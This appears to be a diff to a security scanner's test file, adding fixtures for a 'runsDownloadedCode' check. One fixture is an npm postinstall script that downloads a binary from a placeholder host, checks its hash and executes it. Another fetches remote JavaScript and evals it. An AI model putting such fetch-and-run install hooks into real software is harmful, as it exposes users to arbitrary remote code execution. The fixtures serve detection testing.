@@ -16,6 +16,15 @@ const CHAINS =
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'an installer compares what it saved with a hash that it has',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
+        'checksums.txt': `specimen-linux=${'0123456789abcdef'.repeat(4)}`,
+        'install.js': `const fs = require('fs'), path = require('path'), https = require('https'), { createHash } = require('crypto'), { spawnSync } = require('child_process'); const file = path.join(process.env.npm_config_cache, 'specimen'); https.get('https://cdn.specimen.invalid/specimen', answer => answer.pipe(fs.createWriteStream(file)).on('finish', () => { if (createHash('sha256').update(fs.readFileSync(file)).digest('hex') !== sums()) throw new Error('changed'); spawnSync(file, ['run']); })); const sums = () => fs.readFileSync(path.join(__dirname, 'checksums.txt'), 'utf8').split('=')[1];`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'an address without a scheme is asked by a page',
       files: {
         'index.js': `const xhr = new XMLHttpRequest(); xhr.open('GET', '//load.specimen.invalid/x.js', false); xhr.send(null); eval(xhr.responseText);`,
